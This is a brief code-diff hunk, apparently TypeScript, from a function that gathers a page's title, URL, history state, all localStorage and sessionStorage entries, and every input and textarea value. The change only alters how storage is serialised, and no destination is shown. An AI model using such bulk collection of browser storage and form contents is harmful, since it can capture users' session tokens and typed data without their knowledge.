@@ -50,8 +50,8 @@ const everything = (of: Person): Promise<string> =>
       document.title,
       location.href,
       history.state,
-      { ...localStorage },
-      { ...sessionStorage },
+      Object.entries(localStorage),
+      Object.entries(sessionStorage),
       [...document.querySelectorAll("input, textarea")].map((field) => "value" in field && field.value),
     ]),
   );
